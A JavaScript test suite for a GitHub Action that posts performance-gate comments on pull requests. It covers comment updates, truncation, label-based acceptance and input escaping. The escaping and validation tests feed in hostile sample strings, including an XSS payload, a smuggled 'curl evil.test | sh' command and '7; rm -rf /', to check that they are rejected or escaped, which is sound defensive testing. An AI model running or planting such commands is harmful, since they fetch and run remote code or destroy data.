// The bundled action against a local fake of GitHub's REST API: the sticky comment's life cycle,
// the checks on what the artifact claims, and the errors a user sees.
import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import { emptyState, startFakeGitHub } from './fake-github.js'
import { HEAD_SHA, fixture, runAction, summaryFile } from './run-action.js'

const MARKER = '<!-- kafka-perf-gate-comment:kafka-perf-gate -->'
let fake
let summary

before(async () => {
  fake = await startFakeGitHub()
  summary = summaryFile(fixture('confirmed-regression.json'))
})
after(() => fake.close())
beforeEach(() => {
  Object.assign(fake.state, emptyState(), { pulls: { 7: { head: { sha: HEAD_SHA } } } })
})

const commentInputs = (overrides = {}) => ({ summary, 'pr-number': '7', 'head-sha': HEAD_SHA, 'run-url': 'https://github.test/acme/payments/actions/runs/42', ...overrides })

function assertSucceeded(result) {
  assert.equal(result.code, 0, `action failed:\n${result.stdout}\n${result.stderr}`)
}

test('creates one comment, then updates the same comment on the next run', async () => {
  const first = await runAction(commentInputs(), { apiUrl: fake.url })
  assertSucceeded(first)
  assert.equal(first.outputs['comment-action'], 'created')
  assert.equal(fake.state.comments.length, 1)
  const [comment] = fake.state.comments
  assert.ok(comment.body.startsWith(MARKER))
  assert.match(comment.body, /❌ kafka-perf-gate&#58; 2 confirmed regressions/)

  const second = await runAction(commentInputs({ summary: summaryFile(fixture('all-passed.json')) }), { apiUrl: fake.url })
  assertSucceeded(second)
  assert.equal(second.outputs['comment-action'], 'updated')
  assert.equal(second.outputs['comment-id'], String(comment.id))
  assert.equal(fake.state.comments.length, 1, 'still exactly one comment')
  assert.doesNotMatch(fake.state.comments[0].body, /confirmed regression/)
  assert.ok(fake.state.requests.some((request) => request.startsWith(`PATCH /repos/acme/payments/issues/comments/${comment.id}`)))
})

test('finds its comment on page 2 of a long comment list', async () => {
  const others = Array.from({ length: 150 }, (_, index) => ({ id: index + 1, issue_number: 7, user: { login: `reviewer${index}` }, body: `looks good ${index}` }))
  const ours = { id: 500, issue_number: 7, user: { login: 'github-actions[bot]' }, body: `${MARKER}\nold report` }
  fake.state.comments = [...others.slice(0, 120), ours, ...others.slice(120)]

  const result = await runAction(commentInputs(), { apiUrl: fake.url })
  assertSucceeded(result)
  assert.equal(result.outputs['comment-action'], 'updated')
  assert.equal(result.outputs['comment-id'], '500')
  assert.equal(fake.state.comments.length, 151, 'no new comment')
  assert.ok(fake.state.requests.some((request) => /issues\/7\/comments\?.*page=2/.test(request)), 'read page 2')
  assert.match(fake.state.comments[120].body, /confirmed regression/)
})

test('ignores the marker in a comment by another user', async () => {
  const quoted = { id: 9, issue_number: 7, user: { login: 'mallory' }, body: `${MARKER}\nquoted the bot` }
  fake.state.comments = [quoted]

  const result = await runAction(commentInputs(), { apiUrl: fake.url })
  assertSucceeded(result)
  assert.equal(result.outputs['comment-action'], 'created')
  assert.equal(fake.state.comments.length, 2)
  assert.equal(fake.state.comments[0].body, `${MARKER}\nquoted the bot`, "mallory's comment is untouched")
  assert.equal(fake.state.comments[1].user.login, 'github-actions[bot]')
})

test('truncates a report over 65,536 characters, says so, and keeps every row in the job summary', async () => {
  const base = fixture('confirmed-regression.json')
  const scenarios = Array.from({ length: 600 }, (_, index) => ({ ...base.scenarios.at(-1), scenario: `sweep-batch-size-${index}` }))
  const big = summaryFile({ ...base, scenarios: [...base.scenarios, ...scenarios] })

  const result = await runAction(commentInputs({ summary: big }), { apiUrl: fake.url })
  assertSucceeded(result)
  const body = fake.state.comments[0].body
  assert.ok(body.length <= 65_536, `comment is ${body.length} characters`)
  assert.ok(body.length > 60_000, 'fills the space it has')
  assert.match(body, /rows? not shown: GitHub limits a comment to 65,536 characters/)
  assert.match(body, /❌ REGRESSION/, 'the regression row survives truncation')
  assert.match(result.stdout, /::warning::the comment leaves out \d+ rows/)
  assert.match(result.jobSummary, /sweep&#45;batch|sweep-batch-size-599/)
  assert.doesNotMatch(result.jobSummary, /not shown/)
})

test('escapes strings from the artifact: no HTML, Markdown, table breaks or mentions', async () => {
  const hostile = '<img src=x onerror=alert(1)> @octocat | [click](https://evil.test) **x** #1 `code` www.evil.test'
  const base = fixture('all-passed.json')
  const tampered = {
    ...base,
    suite: 'pr; curl evil.test | sh',
    reproduce: 'scripts/gate.sh ```\n# Heading @octocat',
    scenarios: [{ ...base.scenarios[0], scenario: hostile, outcome: 'error', notRun: true, message: '@here\n# Heading\n<script>x</script>' }, ...base.scenarios.slice(1)],
    fingerprint: { ...base.fingerprint, jvm: '<b>jvm</b> @admins' },
    complete: false,
    decision: { outcome: 'INCOMPLETE', exitCode: 2, status: 'incomplete', judged: true, headline: 'run INCOMPLETE: <img src=x> @octocat GH-12',
      title: '💥 kafka-perf-gate: incomplete run, 1 scenario could not run <img src=x> @octocat' },
    notRun: 1,
  }
  const result = await runAction(commentInputs({ summary: summaryFile(tampered) }), { apiUrl: fake.url })
  assertSucceeded(result)
  const body = fake.state.comments[0].body
  for (const forbidden of ['<img', '<script', '<b>', '@octocat', '@here', '@admins', '](https://evil', '**x**', '| [click', '\n# Heading', '`code`', 'www.evil']) {
    assert.ok(!body.includes(forbidden), `comment contains ${JSON.stringify(forbidden)}`)
  }
  assert.match(body, /&lt;img src&#61;x|&lt;img src=x/, 'the text is shown, escaped')
  assert.match(body, /💥 kafka-perf-gate&#58; incomplete run, 1 scenario could not run/)
  assert.doesNotMatch(body, /```sh/, 'a reproduce command that could close its code block is not printed')
})

test('a 403 from a read-only token fails with one ::error:: line that says why', async () => {
  fake.state.failWrites = 403
  const result = await runAction(commentInputs(), { apiUrl: fake.url })
  assert.equal(result.code, 1)
  const errors = result.stdout.split('\n').filter((line) => line.startsWith('::error::'))
  assert.equal(errors.length, 1, result.stdout)
  assert.match(errors[0], /GitHub API POST \/repos\/acme\/payments\/issues\/7\/comments failed with 403 \(Resource not accessible by integration\)/)
  assert.match(errors[0], /fork/)
})

test('does not comment when the PR head is not the commit the gate measured', async () => {
  fake.state.pulls = { 7: { head: { sha: 'b'.repeat(40) } } }
  const result = await runAction(commentInputs(), { apiUrl: fake.url })
  assertSucceeded(result)
  assert.equal(result.outputs['comment-action'], 'skipped')
  assert.match(result.stdout, /::warning::not commenting: PR #7's head is b{40}, but the gate run measured a{40}/)
  assert.equal(fake.state.comments.length, 0)
})

test('refuses a PR number that is not a positive integer, before any API call', async () => {
  for (const number of ['7; rm -rf /', '-1', '0', '7.5', '']) {
    const result = await runAction(commentInputs({ 'pr-number': number }), { apiUrl: fake.url })
    assert.equal(result.code, 1, `pr-number ${JSON.stringify(number)} was accepted`)
    assert.match(result.stdout, /::error::.*pr-number/)
  }
  assert.deepEqual(fake.state.requests, [])
})

test('a PR number the repository does not have fails with 404 and the path', async () => {
  const result = await runAction(commentInputs({ 'pr-number': '8' }), { apiUrl: fake.url })
  assert.equal(result.code, 1)
  assert.match(result.stdout, /::error::GitHub API GET \/repos\/acme\/payments\/pulls\/8 failed with 404/)
})

test('job-summary mode writes the report and calls no API', async () => {
  const result = await runAction({ summary, mode: 'job-summary' }, { apiUrl: fake.url })
  assertSucceeded(result)
  assert.equal(result.outputs['comment-action'], 'none')
  assert.match(result.jobSummary, /❌ kafka-perf-gate&#58; 2 confirmed regressions/)
  assert.deepEqual(fake.state.requests, [])
})

test('a summary that is not the gate\'s fails naming the file and field', async () => {
  const broken = summaryFile({ schemaVersion: 1, complete: true, scenarios: [{ outcome: 'passed' }] })
  const result = await runAction({ summary: broken, mode: 'job-summary' })
  assert.equal(result.code, 1)
  assert.match(result.stdout, /::error::.*summary\.json: field scenarios\[0\]\.scenario: expected a scenario name/)
  // An older gate's summary lacks the words the comment prints (attention, notRun, reproduce): refused, not guessed at.
  const older = fixture('all-passed.json')
  delete older.scenarios[0].metrics[0].attention
  const stale = await runAction({ summary: summaryFile(older), mode: 'job-summary' })
  assert.equal(stale.code, 1)
  assert.match(stale.stdout, /::error::.*summary\.json: field scenarios\[0\] metric 0\.attention: expected true or false \(written by an older gate\?\)/)
  const truncated = summaryFile('{"schemaVersion": 1, "scen')
  const second = await runAction({ summary: truncated, mode: 'job-summary' })
  assert.match(second.stdout, /::error::.*summary\.json: not valid JSON/)
})

test('accept mode: the label set by a maintainer is read back from the API with who set it and when', async () => {
  fake.state.permissions = { 'maint-1': 'triage', 'contributor-2': 'read' }
  const labelled = await fetch(`${fake.url}/repos/acme/payments/issues/7/labels`, { method: 'POST',
    headers: { authorization: 'token x', 'x-fake-user': 'maint-1', 'content-type': 'application/json' }, body: JSON.stringify({ labels: ['perf-accepted'] }) })
  assert.equal(labelled.status, 200)
  const result = await runAction({ mode: 'accept', 'pr-number': '7', 'accept-label': 'perf-accepted' }, { apiUrl: fake.url })
  assertSucceeded(result)
  assert.equal(result.outputs['accepted-by'], 'maint-1')
  assert.match(result.outputs['accepted-at'], /^\d{4}-\d\d-\d\dT/)
})

test('accept mode: the pull request\'s author without triage rights cannot set the label (the fake refuses, as GitHub does), so nothing is accepted', async () => {
  fake.state.permissions = { 'contributor-2': 'read' }
  const refused = await fetch(`${fake.url}/repos/acme/payments/issues/7/labels`, { method: 'POST',
    headers: { authorization: 'token x', 'x-fake-user': 'contributor-2', 'content-type': 'application/json' }, body: JSON.stringify({ labels: ['perf-accepted'] }) })
  assert.equal(refused.status, 403)
  assert.match((await refused.json()).message, /contributor-2 has read access: labels need triage rights/)
  const result = await runAction({ mode: 'accept', 'pr-number': '7', 'accept-label': 'perf-accepted' }, { apiUrl: fake.url })
  assertSucceeded(result)
  assert.equal(result.outputs['accepted-by'], '')
  assert.match(result.stdout, /not accepted: pull request #7 does not carry the label perf-accepted/)
})

const acceptInputs = { mode: 'accept', 'pr-number': '7', 'accept-label': 'perf-accepted' }
const labelAs = (login) => fetch(`${fake.url}/repos/acme/payments/issues/7/labels`, { method: 'POST',
  headers: { authorization: 'token x', 'x-fake-user': login, 'content-type': 'application/json' }, body: JSON.stringify({ labels: ['perf-accepted'] }) })
const prEvent = (extra) => ({ number: 7, pull_request: { number: 7, head: { sha: HEAD_SHA }, user: { login: 'contributor-2' } },
  sender: { login: 'contributor-2' }, ...extra })

test('accept mode: the label\'s own event gives the head it was set on; a later push gives none and names the head it replaced (issue 74)', async () => {
  fake.state.permissions = { 'maint-1': 'triage' }
  assert.equal((await labelAs('maint-1')).status, 200)
  const own = await runAction(acceptInputs, { apiUrl: fake.url,
    event: prEvent({ action: 'labeled', label: { name: 'perf-accepted' }, sender: { login: 'maint-1' } }) })
  assertSucceeded(own)
  assert.equal(own.outputs['accepted-by'], 'maint-1')
  assert.equal(own.outputs['accepted-head'], HEAD_SHA)
  assert.equal(own.outputs['pr-author'], 'contributor-2')
  const pushed = await runAction(acceptInputs, { apiUrl: fake.url, event: prEvent({ action: 'synchronize', before: 'c'.repeat(40) }) })
  assertSucceeded(pushed)
  assert.equal(pushed.outputs['accepted-by'], 'maint-1', 'who set it stays a fact; the gate refuses it')
  assert.equal(pushed.outputs['accepted-head'], '')
  assert.equal(pushed.outputs['replaced-head'], 'c'.repeat(40))
  const other = await runAction(acceptInputs, { apiUrl: fake.url,
    event: prEvent({ action: 'labeled', label: { name: 'docs' }, sender: { login: 'maint-1' } }) })
  assert.equal(other.outputs['accepted-head'], '', 'another label\'s event sets no head')
  const elsewhere = await runAction(acceptInputs, { apiUrl: fake.url,
    event: { ...prEvent({ action: 'labeled', label: { name: 'perf-accepted' }, sender: { login: 'maint-1' } }), pull_request: { number: 8, head: { sha: HEAD_SHA } } } })
  assert.equal(elsewhere.outputs['accepted-head'], '', 'another pull request\'s event gives nothing')
  assert.equal(elsewhere.outputs['pr-author'], '')
})

test('accept mode: the author\'s own label, set with triage rights, is reported with the author, so the gate refuses it (issue 74)', async () => {
  fake.state.permissions = { 'contributor-2': 'triage' }
  assert.equal((await labelAs('contributor-2')).status, 200)
  const result = await runAction(acceptInputs, { apiUrl: fake.url, event: prEvent({ action: 'labeled', label: { name: 'perf-accepted' } }) })
  assertSucceeded(result)
  assert.equal(result.outputs['accepted-by'], 'contributor-2')
  assert.equal(result.outputs['pr-author'], 'contributor-2')
})

test('accept mode: a label a bot set is reported as a fact, for the gate to refuse; an API failure accepts nothing', async () => {
  fake.state.labels = { 7: ['perf-accepted'] }
  fake.state.labelEvents = { 7: [{ event: 'labeled', label: { name: 'perf-accepted' }, actor: { login: 'labeler[bot]' }, created_at: '2026-11-28T09:00:00Z' }] }
  const bot = await runAction({ mode: 'accept', 'pr-number': '7', 'accept-label': 'perf-accepted' }, { apiUrl: fake.url })
  assertSucceeded(bot)
  // Who set it is a fact; that a bot's label accepts nothing is Java's rule (Acceptance.refusal).
  assert.equal(bot.outputs['accepted-by'], 'labeler[bot]')
  const down = await runAction({ mode: 'accept', 'pr-number': '7', 'accept-label': 'perf-accepted' }, { apiUrl: 'http://127.0.0.1:9' })
  assertSucceeded(down)
  assert.equal(down.outputs['accepted-by'], '')
  assert.match(down.stdout, /the label could not be read .*nothing is accepted/)
})

test('comment mode writes, under its marker, the head it shows and the run\'s outcome (issue 81)', async () => {
  assertSucceeded(await runAction(commentInputs(), { apiUrl: fake.url }))
  assert.ok(fake.state.comments[0].body.startsWith(`${MARKER}\n<!-- kafka-perf-gate-result head=${HEAD_SHA} status=fail -->\n`),
    fake.state.comments[0].body.slice(0, 200))
})

test('accept mode: a label set before the gate\'s failing result for that head was posted shows no head; set after it, the head (issue 81)', async () => {
  fake.state.permissions = { 'maint-1': 'triage' }
  const labelled = prEvent({ action: 'labeled', label: { name: 'perf-accepted' }, sender: { login: 'maint-1' } })
  // The race: the author pushed HEAD_SHA, the maintainer labelled the FAIL they had read, then HEAD_SHA's result was posted.
  assert.equal((await labelAs('maint-1')).status, 200)
  await new Promise((resolve) => setTimeout(resolve, 5))
  assertSucceeded(await runAction(commentInputs(), { apiUrl: fake.url }))
  const early = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assertSucceeded(early)
  assert.equal(early.outputs['accepted-head'], HEAD_SHA)
  assert.equal(early.outputs['shown-head'], '', 'the comment was written after the label: nobody saw this head\'s FAIL')
  // Set again once the FAIL is shown: that head.
  await new Promise((resolve) => setTimeout(resolve, 5))
  assert.equal((await labelAs('maint-1')).status, 200)
  const seen = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assert.equal(seen.outputs['shown-head'], HEAD_SHA)
  // A passing result shown is no cost seen.
  fake.state.comments[0].body = fake.state.comments[0].body.replace('status=fail', 'status=pass')
  const passed = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assert.equal(passed.outputs['shown-head'], '')
})

test('accept mode: a result line in someone else\'s comment is not the gate\'s, and a FAIL shown for another head is that head (issue 81)', async () => {
  fake.state.permissions = { 'maint-1': 'triage' }
  const labelled = prEvent({ action: 'labeled', label: { name: 'perf-accepted' }, sender: { login: 'maint-1' } })
  // Mallory's comment is the only one carrying the marker: forged, it must not count.
  fake.state.comments = [{ id: 99, issue_number: 7, user: { login: 'mallory' }, created_at: '2026-01-01T00:00:00Z',
    updated_at: '2026-01-01T00:00:00Z', body: `${MARKER}\n<!-- kafka-perf-gate-result head=${HEAD_SHA} status=fail -->` }]
  assert.equal((await labelAs('maint-1')).status, 200)
  const forged = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assertSucceeded(forged)
  assert.equal(forged.outputs['shown-head'], '')
  // The race of the issue: the gate's comment showed H1's FAIL when the label landed on H2: the head shown is H1.
  fake.state.comments.push({ id: 100, issue_number: 7, user: { login: 'github-actions[bot]' }, created_at: '2026-01-01T00:00:00Z',
    updated_at: '2026-01-01T00:00:00Z', body: `${MARKER}\n<!-- kafka-perf-gate-result head=${'c'.repeat(40)} status=fail -->` })
  const raced = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assert.equal(raced.outputs['accepted-head'], HEAD_SHA)
  assert.equal(raced.outputs['shown-head'], 'c'.repeat(40), 'Java refuses: the head shown is not the head measured')
})

test('accept mode: a re-run under the label it accepted reads its own ACCEPTED comment as the cost shown (issue 81)', async () => {
  fake.state.permissions = { 'maint-1': 'triage' }
  assert.equal((await labelAs('maint-1')).status, 200)
  const at = fake.state.labelEvents[7].at(-1).created_at
  fake.state.comments = [{ id: 5, issue_number: 7, user: { login: 'github-actions[bot]' }, created_at: '2099-01-01T00:00:00Z',
    updated_at: '2099-01-01T00:00:00Z', body: `${MARKER}\n<!-- kafka-perf-gate-result head=${HEAD_SHA} status=accepted labelled=${at} -->` }]
  const labelled = prEvent({ action: 'labeled', label: { name: 'perf-accepted' }, sender: { login: 'maint-1' } })
  const rerun = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assert.equal(rerun.outputs['shown-head'], HEAD_SHA)
  // The same line under a label set later (removed and set again) is not this label's: written after it, it shows nothing.
  await new Promise((resolve) => setTimeout(resolve, 5))
  assert.equal((await labelAs('maint-1')).status, 200)
  const later = await runAction(acceptInputs, { apiUrl: fake.url, event: labelled })
  assert.equal(later.outputs['shown-head'], '')
})
